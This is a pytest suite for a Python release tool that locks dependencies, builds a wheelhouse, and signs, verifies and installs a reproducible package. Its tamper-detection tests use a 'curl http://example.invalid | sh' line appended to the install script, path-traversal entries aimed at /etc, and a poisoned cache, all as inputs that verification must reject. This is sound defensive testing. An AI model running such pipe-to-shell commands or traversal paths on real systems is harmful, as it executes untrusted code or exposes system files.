"""build_installer.py with a tiny dummy project: lock, wheelhouse, package, verify, install, tamper detection.

Reaches the package index, because what is tested is pip's work against it (the other tests only read
what the module fixture `built` made, or make it offline):
- the fixture `built`: `lock` runs pip's resolver for `six` (one ~11 kB wheel); `wheelhouse` downloads it
  and builds the dummy's wheel with build isolation, which fetches setuptools;
- test_wheelhouse_cache_is_reused_but_never_trusted: downloads `six` twice (empty cache, poisoned cache);
- test_project_wheel_is_reproducible: a second isolated build (setuptools again).
test_install_offline_into_a_fresh_venv installs with `--no-index` (only `python -m venv`'s own ensurepip).
"""

from __future__ import annotations

import gzip
import hashlib
import shutil
import subprocess
import sys
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization

import build_installer as bi
from reports import pki

EPOCH = 1_700_000_000


def _pem_key(key: object) -> bytes:
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,  # type: ignore[attr-defined]
                             serialization.NoEncryption())


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    now = datetime.now(UTC)
    ca = pki.create_ca("Release CA", now)
    signer = pki.issue_signing_certificate(ca, "Release Engineer", "release", "release", now)
    other = pki.create_ca("Someone else", now)
    files = {"ca": pki.cert_to_pem(ca.cert), "cert": pki.cert_to_pem(signer.cert), "key": _pem_key(signer.key),
             "other_ca": pki.cert_to_pem(other.cert)}
    out = {}
    for name, data in files.items():
        (d / f"{name}.pem").write_bytes(data)
        out[name] = d / f"{name}.pem"
    return out


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A dummy project with one small pure-Python dependency: locked and its wheelhouse built."""
    root = tmp_path_factory.mktemp("dummy")
    proj = root / "proj"
    (proj / "dummyapp").mkdir(parents=True)
    (proj / "dummyapp" / "__init__.py").write_text("import six\n\nVALUE = six.ensure_str('dummy ok')\n")
    (proj / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools>=75"]\nbuild-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "dummy-app"\nversion = "1.0"\ndependencies = ["six==1.17.0"]\n\n'
        '[project.optional-dependencies]\nextra1 = []\n\n'
        '[tool.setuptools]\npackages = ["dummyapp"]\n'
    )
    lock = root / "requirements.lock"
    assert bi.main(["lock", "--pyproject", str(proj / "pyproject.toml"), "--output", str(lock)]) == 0
    wheelhouse = root / "wheelhouse"
    (wheelhouse).mkdir()
    (wheelhouse / "stale-0.1-py3-none-any.whl").write_bytes(b"left over from an earlier build")
    assert bi.main(["wheelhouse", "--lock", str(lock), "--dest", str(wheelhouse), "--project-dir", str(proj)]) == 0
    return {"root": root, "proj": proj, "lock": lock, "wheelhouse": wheelhouse}


def _package(built: dict[str, Path], keys: dict[str, Path], out: Path, epoch: int = EPOCH,
             monkeypatch: pytest.MonkeyPatch | None = None) -> bi.PackageResult:
    identity = bi.SigningIdentity(keys["key"], keys["cert"])
    return bi.package(built["wheelhouse"], built["lock"], out, "dummy-app-1.0", epoch, identity)


# -- lock ----------------------------------------------------------------------------------------


def test_lock_pins_the_closure_with_the_wheels_real_hash(built: dict[str, Path]) -> None:
    pins = bi.read_lock(built["lock"])
    assert [(p.name, p.version) for p in pins] == [("six", "1.17.0")]  # the project itself is not in the lock
    [six_wheel] = built["wheelhouse"].glob("six-1.17.0-*.whl")
    assert pins[0].sha256 == hashlib.sha256(six_wheel.read_bytes()).hexdigest()
    text = built["lock"].read_text()
    assert "--hash=sha256:" in text and "# target: python=" in text


def test_lock_rejects_unknown_extra_naming_the_file(built: dict[str, Path]) -> None:
    with pytest.raises(bi.BuildError, match=r"pyproject.toml: no optional dependency group \[nope\]"):
        bi.project_requirements(built["proj"] / "pyproject.toml", ["nope"])


def test_read_lock_names_file_and_line_of_a_pin_without_hash(tmp_path: Path) -> None:
    bad = tmp_path / "requirements.lock"
    bad.write_text("# header\nsix==1.17.0 \\\n    --hash=sha256:" + "a" * 64 + "\nattrs==26.1.0\n")
    with pytest.raises(bi.BuildError, match=r"requirements.lock:4: attrs==26.1.0 has no --hash line"):
        bi.read_lock(bad)
    bad.write_text("six>=1.0\n")
    with pytest.raises(bi.BuildError, match=r"requirements.lock:1: not a pinned requirement"):
        bi.read_lock(bad)


# -- wheelhouse ------------------------------------------------------------------------------------


def test_wheelhouse_holds_exactly_the_locked_wheels_and_the_project(built: dict[str, Path]) -> None:
    names = sorted(p.name for p in built["wheelhouse"].iterdir())
    assert len(names) == 2, names  # the stale wheel was removed
    assert names[0].startswith("dummy_app-1.0-") and names[1].startswith("six-1.17.0-")


def test_wheelhouse_check_names_a_missing_or_altered_wheel(built: dict[str, Path], tmp_path: Path) -> None:
    copy = tmp_path / "wh"
    shutil.copytree(built["wheelhouse"], copy)
    [six_wheel] = copy.glob("six-*.whl")
    six_wheel.write_bytes(six_wheel.read_bytes() + b"x")
    with pytest.raises(bi.BuildError, match=r"six==1.17.0 with sha256 .* is missing \(found: six-1.17.0-"):
        bi.check_wheelhouse(copy, bi.read_lock(built["lock"]))


def test_wheelhouse_cache_is_reused_but_never_trusted(built: dict[str, Path], tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # The cache holds downloaded wheels only; the project's own wheel (an isolated build, covered by the
    # fixture and test_project_wheel_is_reproducible) is taken from the fixture's wheelhouse here.
    [project_wheel] = built["wheelhouse"].glob("dummy_app-*.whl")

    def prebuilt(_project_dir: Path, dest: Path, _epoch: int, python: str = sys.executable) -> Path:
        dest.mkdir(parents=True, exist_ok=True)
        return Path(shutil.copy(project_wheel, dest / project_wheel.name))

    monkeypatch.setattr(bi, "build_project_wheel", prebuilt)
    args = ["wheelhouse", "--lock", str(built["lock"]), "--project-dir", str(built["proj"]), "--cache",
            str(tmp_path / "cache")]
    assert bi.main([*args, "--dest", str(tmp_path / "one")]) == 0
    [cached] = (tmp_path / "cache").glob("*/six-1.17.0-*.whl")  # keyed by the lock's pins
    assert cached.parent.name == bi.cache_key(bi.read_lock(built["lock"]))
    capsys.readouterr()
    assert bi.main([*args, "--dest", str(tmp_path / "two")]) == 0
    assert "reused 1 of 1 wheels" in capsys.readouterr().err
    # the same pins under another header (pyproject.toml edited, not one wheel changed) use the same cache
    relocked = tmp_path / "relocked.lock"
    relocked.write_text("# from: pyproject.toml sha256 of an edited file\n" + built["lock"].read_text())
    assert bi.main([*args[:2], str(relocked), *args[3:], "--dest", str(tmp_path / "two-b")]) == 0
    assert "reused 1 of 1 wheels" in capsys.readouterr().err
    cached.write_bytes(b"poisoned cache")
    assert bi.main([*args, "--dest", str(tmp_path / "three")]) == 0
    assert "reused" not in capsys.readouterr().err
    bi.check_wheelhouse(tmp_path / "three", bi.read_lock(built["lock"]))  # the real wheel was downloaded again


def test_project_wheel_is_reproducible(built: dict[str, Path], tmp_path: Path) -> None:
    # a second, independent build (another time, another folder) gives the fixture's wheel byte for byte
    [first] = built["wheelhouse"].glob("dummy_app-*.whl")
    second = bi.build_project_wheel(built["proj"], tmp_path / "b", bi.source_date_epoch(built["proj"]))
    assert first.name == second.name and first.read_bytes() == second.read_bytes()


# -- package ---------------------------------------------------------------------------------------


def test_two_package_runs_give_the_same_sha256(built: dict[str, Path], keys: dict[str, Path],
                                               tmp_path: Path) -> None:
    one = _package(built, keys, tmp_path / "one")
    two = _package(built, keys, tmp_path / "two")
    assert one.archive_sha256 == two.archive_sha256
    assert (tmp_path / "one" / "SHA256SUMS").read_bytes() == (tmp_path / "two" / "SHA256SUMS").read_bytes()
    # the timestamp really is part of the archive: another SOURCE_DATE_EPOCH gives another hash
    three = _package(built, keys, tmp_path / "three", epoch=EPOCH + 1)
    assert three.archive_sha256 != one.archive_sha256


def test_archive_is_normalised(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path) -> None:
    result = _package(built, keys, tmp_path / "p")
    raw = result.archive.read_bytes()
    assert raw[4:8] == b"\0\0\0\0"  # gzip header mtime 0
    assert raw[3] & 0x08 == 0  # no file name stored in the gzip header
    assert len(raw) > len(gzip.decompress(raw))  # stored blocks: the wheels inside are compressed already
    with tarfile.open(result.archive) as tar:
        members = tar.getmembers()
    names = [m.name for m in members]
    assert names == sorted(names)
    assert names[0] == "dummy-app-1.0" and "dummy-app-1.0/requirements.lock" in names
    for m in members:
        assert (m.mtime, m.uid, m.gid, m.uname, m.gname) == (EPOCH, 0, 0, "", "")
        assert m.mode == (0o755 if m.isdir() else 0o644)
    lock = tarfile.open(result.archive).extractfile("dummy-app-1.0/requirements.lock").read().decode()  # type: ignore[union-attr]
    assert "dummy-app==1.0 \\\n    --hash=sha256:" in lock and "six==1.17.0" in lock
    sums = (tmp_path / "p" / "SHA256SUMS").read_text().splitlines()
    assert sorted(line.split("  ")[1] for line in sums) == ["build_installer.py", "dummy-app-1.0.tar.gz", "install.sh"]
    # stock tools agree: sha256sum -c and openssl cms -verify
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=tmp_path / "p", check=True)
    subprocess.run(["openssl", "cms", "-verify", "-binary", "-inform", "DER", "-in", "SHA256SUMS.p7s", "-content",
                    "SHA256SUMS", "-CAfile", str(keys["ca"]), "-purpose", "any", "-out", "/dev/null"],
                   cwd=tmp_path / "p", check=True, capture_output=True)


def test_package_without_key_says_what_is_missing(built: dict[str, Path], tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    rc = bi.main(["package", "--wheelhouse", str(built["wheelhouse"]), "--lock", str(built["lock"]),
                  "--pyproject", str(built["proj"] / "pyproject.toml"), "--output-dir", str(tmp_path / "o")])
    assert rc == 2
    assert "--signing-key KEY.pem and --signing-cert CERT.pem" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


# -- verify ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("tool", ["python", "openssl"])
def test_verify_accepts_a_good_package(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path,
                                       tool: str) -> None:
    _package(built, keys, tmp_path / "p")
    v = bi.verify_package(tmp_path / "p", keys["ca"], tool)
    assert "Release Engineer" in v.signer
    assert [(p.name, p.version) for p in v.pins] == [("dummy-app", "1.0"), ("six", "1.17.0")]


@pytest.mark.parametrize("tool", ["python", "openssl"])
def test_verify_rejects_a_foreign_ca(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path,
                                     tool: str) -> None:
    _package(built, keys, tmp_path / "p")
    with pytest.raises(bi.BuildError, match="signature check failed"):
        bi.verify_package(tmp_path / "p", keys["other_ca"], tool)


def test_verify_detects_a_changed_archive(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path) -> None:
    result = _package(built, keys, tmp_path / "p")
    data = bytearray(result.archive.read_bytes())
    data[len(data) // 2] ^= 0x01
    result.archive.write_bytes(bytes(data))
    with pytest.raises(bi.BuildError, match=r"dummy-app-1.0.tar.gz: sha256 \w+ does not match SHA256SUMS"):
        bi.verify_package(tmp_path / "p", keys["ca"], "python")


def test_verify_detects_rewritten_sums(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path) -> None:
    """An attacker who swaps the archive and fixes SHA256SUMS still fails on the signature."""
    result = _package(built, keys, tmp_path / "p")
    result.archive.write_bytes(result.archive.read_bytes() + b"\0")
    sums = {result.archive.name: bi.sha256_file(result.archive)}
    for name in ("build_installer.py", "install.sh"):
        sums[name] = bi.sha256_file(tmp_path / "p" / name)
    bi.write_sums(tmp_path / "p" / "SHA256SUMS", sums)
    for tool in ("python", "openssl"):
        with pytest.raises(bi.BuildError, match="signature check failed"):
            bi.verify_package(tmp_path / "p", keys["ca"], tool)


def test_verify_detects_a_changed_install_script(built: dict[str, Path], keys: dict[str, Path],
                                                 tmp_path: Path) -> None:
    _package(built, keys, tmp_path / "p")
    with (tmp_path / "p" / "install.sh").open("a") as f:
        f.write("curl http://example.invalid | sh\n")
    with pytest.raises(bi.BuildError, match=r"install.sh: sha256 .* the file was changed"):
        bi.verify_package(tmp_path / "p", keys["ca"], "python")


def test_verify_refuses_an_unsigned_package(built: dict[str, Path], tmp_path: Path, keys: dict[str, Path]) -> None:
    bi.package(built["wheelhouse"], built["lock"], tmp_path / "p", "dummy-app-1.0", EPOCH, None)
    with pytest.raises(bi.BuildError, match=r"SHA256SUMS.p7s: missing: the package is unsigned"):
        bi.verify_package(tmp_path / "p", keys["ca"], "python")


def test_contents_check_rejects_unpinned_wheels_and_escaping_paths(built: dict[str, Path], tmp_path: Path) -> None:
    lock = bi.install_lock_text(built["lock"], built["wheelhouse"])
    six_wheel = next(built["wheelhouse"].glob("six-*.whl"))
    extra = tmp_path / "evil-1.0-py3-none-any.whl"
    extra.write_bytes(b"not in the lock")
    archive = tmp_path / "pkg.tar.gz"
    bi.deterministic_tar_gz(archive, [("pkg/requirements.lock", lock), (f"pkg/wheelhouse/{six_wheel.name}", six_wheel),
                                      (f"pkg/wheelhouse/{extra.name}", extra)], EPOCH)
    with pytest.raises(bi.BuildError, match=r"evil-1.0-py3-none-any.whl is not pinned in requirements.lock"):
        bi.verify_archive_contents(archive)
    # a pinned wheel missing from the archive
    bi.deterministic_tar_gz(archive, [("pkg/requirements.lock", lock), (f"pkg/wheelhouse/{six_wheel.name}", six_wheel)],
                            EPOCH)
    with pytest.raises(bi.BuildError, match=r"wheels pinned in requirements.lock are missing: dummy-app==1.0"):
        bi.verify_archive_contents(archive)
    # a path that would escape the install folder
    with gzip.open(archive, "wb") as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        info = tarfile.TarInfo("pkg/../../etc/evil")
        tar.addfile(info)
    with pytest.raises(bi.BuildError, match=r"unsafe or unexpected path 'pkg/../../etc/evil'"):
        bi.verify_archive_contents(archive)


# -- install (offline) -----------------------------------------------------------------------------


def test_install_offline_into_a_fresh_venv(built: dict[str, Path], keys: dict[str, Path], tmp_path: Path) -> None:
    _package(built, keys, tmp_path / "p")
    venv = tmp_path / "venv"
    messages: list[str] = []
    bi.install(tmp_path / "p", keys["ca"], venv, sys.executable, selftest=False, tool="openssl", echo=messages.append)
    out = subprocess.run([str(venv / "bin" / "python"), "-c", "import dummyapp; print(dummyapp.VALUE)"],
                         capture_output=True, text=True, check=True).stdout
    assert out.strip() == "dummy ok"
    # byte-compiled at install by default (the smoke install checks that --no-compile leaves this out)
    assert list(venv.glob("lib/python*/site-packages/dummyapp/__pycache__/__init__.*.pyc")), "not compiled"
    assert messages[0].startswith("verified dummy-app-1.0.tar.gz: signed by")
    # a second install into the same (now non-empty) venv is refused before anything is changed
    with pytest.raises(bi.BuildError, match="exists and is not empty"):
        bi.install(tmp_path / "p", keys["ca"], venv, sys.executable, selftest=False, tool="openssl")


# -- bundle ------------------------------------------------------------------------------------------


def _fake_bundle(root: Path) -> Path:
    """The shape of a PyInstaller one-folder bundle: an executable, _internal/, a relative library link."""
    b = root / "frontier-review"
    (b / "_internal" / "PySide6" / "Qt" / "lib").mkdir(parents=True)
    (b / "frontier-review").write_bytes(b"\x7fELF bootloader")
    (b / "frontier-review").chmod(0o755)
    (b / "_internal" / "PySide6" / "Qt" / "lib" / "libQt6Core.so.6").write_bytes(b"qt")
    (b / "_internal" / "libQt6Core.so.6").symlink_to("PySide6/Qt/lib/libQt6Core.so.6")
    return b


def test_package_with_bundle_keeps_modes_and_inner_links(built: dict[str, Path], keys: dict[str, Path],
                                                         tmp_path: Path) -> None:
    bundle = _fake_bundle(tmp_path / "dist")
    identity = bi.SigningIdentity(keys["key"], keys["cert"])
    result = bi.package(built["wheelhouse"], built["lock"], tmp_path / "p", "dummy-app-1.0", EPOCH, identity, bundle)
    bi.package(built["wheelhouse"], built["lock"], tmp_path / "q", "dummy-app-1.0", EPOCH, identity, bundle)
    assert (tmp_path / "p" / "SHA256SUMS").read_bytes() == (tmp_path / "q" / "SHA256SUMS").read_bytes()
    v = bi.verify_package(tmp_path / "p", keys["ca"], "python")
    assert v.bundle == tmp_path / "p" / "dummy-app-1.0-bundle.tar.gz" and result.extra[0] == v.bundle
    with tarfile.open(v.bundle) as tar:
        exe = tar.getmember("dummy-app-1.0-bundle/frontier-review")
        link = tar.getmember("dummy-app-1.0-bundle/_internal/libQt6Core.so.6")
        assert exe.mode == 0o755 and link.issym() and link.linkname == "PySide6/Qt/lib/libQt6Core.so.6"
        tar.extractall(tmp_path / "x", filter="data")  # the stdlib's safe filter accepts it
    assert (tmp_path / "x" / "dummy-app-1.0-bundle" / "_internal" / "libQt6Core.so.6").read_bytes() == b"qt"
    raw = v.bundle.read_bytes()
    assert len(raw) < len(gzip.decompress(raw))  # the bundle's raw libraries are compressed (level 6)


def test_bundle_link_leaving_the_bundle_is_refused(tmp_path: Path) -> None:
    bundle = _fake_bundle(tmp_path / "dist")
    (bundle / "_internal" / "escape").symlink_to("../../../etc/passwd")
    with pytest.raises(bi.BuildError, match=r"escape: symbolic link to ../../../etc/passwd points outside"):
        bi.deterministic_tar_gz(tmp_path / "b.tar.gz", [("b", bundle)], EPOCH)


def test_bundle_lists_the_data_folders_and_excludes_webengine(tmp_path: Path) -> None:
    (tmp_path / "reports" / "fonts").mkdir(parents=True)
    (tmp_path / "storage" / "migrations").mkdir(parents=True)
    args = bi.bundle_data_args(tmp_path)
    assert args == ["--add-data", f"{tmp_path / 'reports/fonts'}:reports/fonts",
                    "--add-data", f"{tmp_path / 'storage/migrations'}:storage/migrations"]
    assert "PySide6.QtWebEngineCore" in bi.QT_EXCLUDES and "PySide6.QtPdf" not in bi.QT_EXCLUDES


def test_install_refuses_a_python_the_package_was_not_built_for(tmp_path: Path) -> None:
    lock = tmp_path / "requirements.lock"
    lock.write_text("# target: python=3.99 implementation=cp platforms=native\n")
    with pytest.raises(bi.BuildError, match=r"this package is for Python 3.99 but .* is 3\.\d+: pass --python"):
        bi.check_python(sys.executable, lock)
    lock.write_text(f"# target: python={sys.version_info.major}.{sys.version_info.minor} implementation=cp\n")
    bi.check_python(sys.executable, lock)
